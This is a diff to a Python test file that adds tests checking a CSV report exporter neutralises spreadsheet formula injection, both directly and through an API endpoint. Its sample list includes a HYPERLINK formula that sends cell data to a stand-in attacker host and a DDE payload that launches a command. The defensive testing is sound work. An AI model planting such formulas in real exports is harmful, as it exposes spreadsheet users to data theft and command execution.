@@ -6,6 +6,7 @@ import io
 import pytest
 
 from master.reports.tabular import COLUMNS, csv_text
+from tests.master.conftest import job_spec
 
 
 def rows_of(text: str) -> list[dict]:
@@ -52,3 +53,54 @@ def test_job_without_result_gets_a_row(run):
     run["jobs"].append({"id": "j-0008", "name": "x", "state": "queued", "result": None})
     row = rows_of(csv_text(run))[-1]
     assert (row["job"], row["state"], row["fps"], row["node"]) == ("j-0008", "queued", "", "")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-cmd|' /C calc'!A0", "@SUM(1+1)",
+            "\t=1", "\r=1"]
+"""Text a spreadsheet would run as a formula (OWASP CSV injection)."""
+
+
+def test_formula_text_is_neutralised_and_numbers_stay_numbers(run):
+    """Scenario, variant, job name, error, missing reasons, source and host names starting with = + - @ tab or CR
+    get a leading quote; a negative number stays a number."""
+    job = run["jobs"][0]
+    for key, text in zip(("scenario", "variant", "name", "error"), FORMULAS):
+        job[key] = text
+    job["result"]["missing"] = {"@x": "=reason"}
+    job["result"]["provenance"]["sources"][0]["name"] = "-source"
+    job["result"]["metrics"]["dynamic_energy_j"] = -1.5
+    run["nodes"][0]["hostname"] = "=host"
+    row = rows_of(csv_text(run))[0]
+    assert [row[c] for c in ("scenario", "variant", "job_name", "error")] == ["'" + t for t in FORMULAS[:4]]
+    assert (row["missing"], row["sources"], row["node"]) == ("'@x: =reason", "'-source", "'=host")
+    assert row["dynamic_energy_j"] == "-1.5"
+
+
+@pytest.mark.parametrize("text", FORMULAS[4:])
+def test_tab_and_carriage_return_starts_are_neutralised(run, text):
+    """A cell starting with a tab or a carriage return is quoted too."""
+    run["jobs"][0]["variant"] = text
+    assert rows_of(csv_text(run))[0]["variant"] == "'" + text
+
+
+def test_report_csv_from_the_api_is_neutralised(client, node, make_campaign):
+    """GET /campaigns/<id>/report.csv: a job named like a formula, a formula host and error are quoted; a negative
+    dynamic energy stays -1.5."""
+    cid = make_campaign(jobs=[job_spec("=HYPERLINK(1)#1", encoder="libx264"), job_spec("+1#1", encoder="libx264")])
+    n = node("@SUM(1+1)")
+    for status, extra in (("succeeded", {"metrics": {"dynamic_energy_j": -1.5}}), ("failed", {"error": "-cmd"})):
+        job = client.get(f"/jobs/next?node_id={n.id}&wait=0", headers=n.headers).get_json()["job"]
+        body = {"job_id": job["id"], "attempt": job["attempt"], "node_id": n.id, "status": status, **extra}
+        assert client.post("/results", json=body, headers=n.headers).status_code == 200
+    rows = rows_of(client.get(f"/campaigns/{cid}/report.csv").get_data(as_text=True))
+    assert [(r["job_name"], r["node"]) for r in rows] == [("'=HYPERLINK(1)#1", "'@SUM(1+1)"), ("'+1#1", "'@SUM(1+1)")]
+    assert (rows[0]["dynamic_energy_j"], rows[1]["error"]) == ("-1.5", "'-cmd")
+
+
+def test_line_break_inside_a_cell_cannot_start_a_row(run):
+    """An error with a CR or LF before a formula stays inside its quoted cell: no extra row, the text kept."""
+    run["jobs"][0]["error"] = "ok\r=1+1"
+    run["jobs"][1]["error"] = "ok\n@SUM(1)"
+    rows = rows_of(csv_text(run))
+    assert len(rows) == len(run["jobs"])
+    assert (rows[0]["error"], rows[1]["error"]) == ("ok\r=1+1", "ok\n@SUM(1)")
